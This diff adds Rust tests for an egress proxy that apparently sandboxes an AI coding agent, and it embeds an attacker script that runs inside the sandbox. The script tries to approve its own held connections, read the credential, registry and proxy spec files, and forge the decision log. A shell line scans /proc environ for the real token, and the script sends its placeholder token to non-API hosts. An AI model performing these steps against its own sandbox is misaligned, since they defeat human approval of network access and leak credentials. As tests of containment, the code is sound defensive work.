@@ -219,3 +219,314 @@ fn network_attacks_fail_as_root() {
 fn network_attacks_fail_as_nobody() {
     network_attacks(true);
 }
+
+// ---------------------------------------------------------------------------------------
+// The proxy's own files, the credential, and the placeholder
+// ---------------------------------------------------------------------------------------
+
+/// Run inside with a credential handed over and unlisted hosts held: finds the host paths of
+/// its own state and runtime dirs (its mounts name them), answers its own held connection
+/// through `egress-held/`, reads the credential and the proxy's spec, forges its decision
+/// log, looks for the proxy's process; then (the control) waits on a second held connection
+/// the host answers through the same file; then sends its placeholder to an allowed host
+/// that is not the API, every way it can.
+const ATTACK_FILES: &str = r#"
+import errno, json, os, socket, sys, threading, time
+
+held_target, up, second = sys.argv[1:4]
+placeholder = os.environ.get("CLAUDE_CODE_OAUTH_TOKEN", "")
+
+def say(key, value):
+    print(f"{key}={value}", flush=True)
+
+def ename(e):
+    return errno.errorcode.get(e.errno, str(e.errno)) if e.errno else "timeout"
+
+mounts = {}
+for line in open("/proc/self/mountinfo"):
+    fields = line.split()
+    mounts[fields[4]] = fields[3]
+state = os.path.dirname(mounts["/run/sandbox-deck/status"])
+runtime = os.path.dirname(mounts["/run/sandbox-deck/hook-settings.json"])
+root = os.path.dirname(os.path.dirname(state))
+say("state", state)
+
+def request(label, head, then=None):
+    try:
+        s = socket.create_connection(("127.0.0.1", 3128), timeout=60)
+        s.sendall(head.encode())
+        data = b""
+        while b"\r\n\r\n" not in data:
+            chunk = s.recv(4096)
+            if not chunk:
+                break
+            data += chunk
+        status = data.split(b" ")[1].decode() if data else "closed"
+        if status == "200" and then:
+            s.sendall(then.encode())
+            body = b""
+            while True:
+                chunk = s.recv(4096)
+                if not chunk:
+                    break
+                body += chunk
+            status += "+upstream-ok" if b"upstream-ok" in body else "+nothing"
+        say(label, status)
+    except OSError as e:
+        say(label, ename(e))
+
+def attempt(label, action):
+    try:
+        action()
+        say(label, "ok")
+    except OSError as e:
+        say(label, ename(e))
+
+def write(path, text):
+    def go():
+        with open(path, "w") as f:
+            f.write(text)
+    return go
+
+def read(path):
+    return lambda: open(path).read()
+
+def connect(target):
+    return f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n"
+
+get = "GET /held HTTP/1.1\r\nHost: held.test\r\nConnection: close\r\n\r\n"
+
+first = threading.Thread(target=request, args=("self_approved", connect(held_target), get))
+first.start()
+time.sleep(1.5)
+held = os.path.join(state, "egress-held")
+answer = json.dumps({"allow": "always", "rule": held_target})
+attempt("list_held", lambda: os.listdir(held))
+for n in range(1, 5):
+    attempt(f"answer_h{n}", write(os.path.join(held, f"h{n}.answer"), answer))
+attempt("spec_read", read(os.path.join(runtime, "egress.json")))
+attempt("spec_write", write(os.path.join(runtime, "egress.json"), "{}"))
+attempt("log_forge", write(os.path.join(state, "egress.log"), "{}\n"))
+attempt("credential_read", read(os.path.join(root, "credential", "anthropic.json")))
+attempt("registry_read", read(os.path.join(root, "registry.json")))
+seen = 0
+for pid in filter(str.isdigit, os.listdir("/proc")):
+    try:
+        seen += b"egress-proxy" in open(f"/proc/{pid}/cmdline", "rb").read()
+    except OSError:
+        pass
+say("proxy_seen", seen)
+first.join()
+
+open(second, "w").close()
+request("user_approved", connect(held_target), get)
+
+auth = f"Authorization: Bearer {placeholder}\r\nx-api-key: {placeholder}\r\n"
+port = up.split(":")[1]
+request("leak_plain", f"GET http://{up}/leak-plain HTTP/1.1\r\nHost: {up}\r\n{auth}\r\n")
+request("leak_tunnel", connect(up), f"GET /leak-tunnel HTTP/1.1\r\nHost: {up}\r\n{auth}Connection: close\r\n\r\n")
+request("leak_host_is_api", f"GET http://{up}/leak-host HTTP/1.1\r\nHost: api.anthropic.com\r\n{auth}\r\n")
+request("leak_api_other_port", f"GET http://api.anthropic.com:{port}/v1/models HTTP/1.1\r\nHost: api.anthropic.com:{port}\r\n{auth}\r\n")
+request("leak_api_userinfo", f"GET http://api.anthropic.com@{up}/v1/models HTTP/1.1\r\n{auth}\r\n")
+request("leak_api_connect", connect("api.anthropic.com:443"))
+one = f"Authorization: Bearer {placeholder}\r\n"
+request("api_oauth", f"POST http://api.anthropic.com/v1/oauth/token HTTP/1.1\r\nHost: api.anthropic.com\r\nContent-Length: 0\r\n{one}\r\n")
+request("api_own", f"GET http://api.anthropic.com/v1/models HTTP/1.1\r\nHost: api.anthropic.com\r\n{one}\r\n")
+"#;
+
+/// A sandbox's state dir (the only sandbox of the world), while it runs.
+fn the_state_dir(e: &Egress) -> PathBuf {
+    let dir = e.world.root.path().join("state/sandbox-deck/sandboxes");
+    let found: Vec<PathBuf> = std::fs::read_dir(&dir)
+        .unwrap()
+        .flatten()
+        .map(|entry| entry.path())
+        .collect();
+    assert_eq!(found.len(), 1, "{found:?}");
+    found[0].clone()
+}
+
+/// The TLS stand-in for the API (its process, its port, its request log).
+fn start_stand_in(e: &Egress) -> (Guarded, String, PathBuf, PathBuf) {
+    let dir = e.world.root.path().join("api");
+    std::fs::create_dir_all(&dir).unwrap();
+    let (ca, cert, key) = test_ca(&dir);
+    let log = dir.join("requests.jsonl");
+    let script = dir.join("stand-in.py");
+    std::fs::write(&script, STAND_IN).unwrap();
+    let mut stand_in = Command::new("python3")
+        .arg(&script)
+        .args([&cert, &key])
+        .arg("127.0.0.2")
+        .arg(&log)
+        .stdout(Stdio::piped())
+        .spawn_guarded();
+    let mut port = String::new();
+    {
+        use std::io::BufRead;
+        let out = stand_in.stdout.take().unwrap();
+        std::io::BufReader::new(out).read_line(&mut port).unwrap();
+    }
+    (stand_in, port.trim().to_string(), log, ca)
+}
+
+/// EGR-10..12 and EGR-15..17 from the attacker's side: the sandbox cannot answer its own
+/// held connection (the answer files, the proxy's spec, its decision log, the credential are
+/// none of them inside, though its mounts tell it where they are on the host), cannot see
+/// the proxy's process, and its placeholder sent to an allowed host that is not the API
+/// arrives as the placeholder, never as the real token. Controls: the host, as the same user,
+/// answers a held connection through the same file and it passes; reads the credential and
+/// the spec at the paths the sandbox named; the API gets the real token for the placeholder.
+fn control_files_and_the_token(nobody: bool) {
+    if !ready(nobody, &["bwrap", "python3", "curl", "openssl"]) {
+        return;
+    }
+    let api: IpAddr = [127, 0, 0, 2].into();
+    let e = Egress::new_as(
+        "egress-attacker-files",
+        nobody,
+        &[("api.anthropic.com", api), ("held.test", api)],
+    );
+    let p = e.port();
+    let (stand_in, port, api_log, ca) = start_stand_in(&e);
+    e.write_config_with(
+        &[],
+        &format!(
+            "hold_seconds = 8\nhold_max = 4\napi_upstream = \"api.anthropic.com:{port}\"\nextra_ca = \"{}\"\n",
+            ca.display()
+        ),
+    );
+    let token = format!("sk-ant-oat01-REALTEST-{}", unique());
+    let mut set = e.deck();
+    set.args(["auth", "--set"]).stdin(Stdio::piped());
+    let mut child = set.spawn_guarded();
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(token.as_bytes())
+        .unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert!(out.status.success(), "{out:?}");
+
+    let held_target = format!("held.test:{p}");
+    let second = e.project.join(".second-held");
+    let script = e.project.join(".attack-files.py");
+    std::fs::write(&script, ATTACK_FILES).unwrap();
+    let body = format!(
+        // `REAL[T]EST`: the scanning commands' own argv must not match.
+        "echo proc_token=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c 'REAL[T]EST'); \
+         echo proc_placeholder=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c 'sandbox-deck-place[h]older'); \
+         python3 '{}' '{held_target}' 'upstream.test:{p}' '{}'",
+        script.display(),
+        second.display()
+    );
+    let child = e
+        .proxy_shell(&body)
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn_guarded();
+    wait_for("the second held connection", Duration::from_secs(60), || {
+        second.exists()
+    });
+    let state = the_state_dir(&e);
+    let held = state.join("egress-held");
+    let mut id = String::new();
+    wait_for("its file", Duration::from_secs(5), || {
+        id = std::fs::read_dir(&held)
+            .into_iter()
+            .flatten()
+            .flatten()
+            .filter_map(|f| f.file_name().to_str()?.strip_suffix(".json").map(String::from))
+            .next()
+            .unwrap_or_default();
+        !id.is_empty()
+    });
+    let sandbox_id = state.file_name().unwrap().to_str().unwrap().to_string();
+    let spec = e
+        .world
+        .runtime
+        .join("sandbox-deck/sandboxes")
+        .join(&sandbox_id)
+        .join("egress.json");
+    let credential = e
+        .world
+        .root
+        .path()
+        .join("state/sandbox-deck/credential/anthropic.json");
+    let answer = json!({"allow": "once", "rule": held_target}).to_string();
+    // Control: the same user on the host, the same file the sandbox tried.
+    let host = on_host(
+        &e,
+        &json!([
+            ["write", "answer", held.join(format!("{id}.answer")), answer],
+            ["read", "credential", credential, token],
+            ["read", "spec", spec, "upstream.test"],
+        ]),
+    );
+    let out = child.wait_with_output().unwrap();
+    let r = Report {
+        text: String::from_utf8_lossy(&out.stdout).to_string()
+            + "\n--stderr--\n"
+            + &String::from_utf8_lossy(&out.stderr),
+    };
+    let user = who(nobody);
+    host.expect("answer", "ok");
+    host.expect("credential", "found");
+    host.expect("spec", "found");
+    // The sandbox named the right paths, and reached none of them.
+    r.expect("state", state.to_str().unwrap());
+    r.expect("self_approved", "403");
+    for label in [
+        "list_held",
+        "answer_h1",
+        "answer_h2",
+        "answer_h3",
+        "answer_h4",
+        "spec_read",
+        "spec_write",
+        "log_forge",
+        "credential_read",
+        "registry_read",
+    ] {
+        assert_ne!(r.get(label), "ok", "{user} {label}:\n{}", r.text);
+    }
+    r.expect("proxy_seen", "0");
+    r.expect("user_approved", "200+upstream-ok");
+    // The token is nowhere inside; the placeholder is (the scan's control).
+    r.expect("proc_token", "0");
+    assert_ne!(r.get("proc_placeholder"), "0", "{}", r.text);
+    r.expect("leak_plain", "200");
+    r.expect("leak_tunnel", "200+upstream-ok");
+    for label in [
+        "leak_host_is_api",
+        "leak_api_other_port",
+        "leak_api_userinfo",
+        "leak_api_connect",
+        "api_oauth",
+    ] {
+        assert!(refused(&r.get(label)), "{user} {label}:\n{}", r.text);
+    }
+    r.expect("api_own", "200");
+    let heads = e.upstream.heads().join("\n");
+    assert!(
+        heads.matches("sandbox-deck-placeholder").count() >= 4,
+        "the placeholder went out as it was: {heads}"
+    );
+    assert!(!heads.contains("REALTEST"), "{user}: the token leaked: {heads}");
+    // Control: the API, and only it, got the real token for the placeholder.
+    let seen = std::fs::read_to_string(&api_log).unwrap_or_default();
+    assert_eq!(seen.lines().count(), 1, "{seen}");
+    assert!(seen.contains(&format!("Bearer {token}")), "{seen}");
+    drop(stand_in);
+}
+
+#[test]
+fn control_files_and_the_token_are_out_of_reach_as_root() {
+    control_files_and_the_token(false);
+}
+
+#[test]
+fn control_files_and_the_token_are_out_of_reach_as_nobody() {
+    control_files_and_the_token(true);
+}
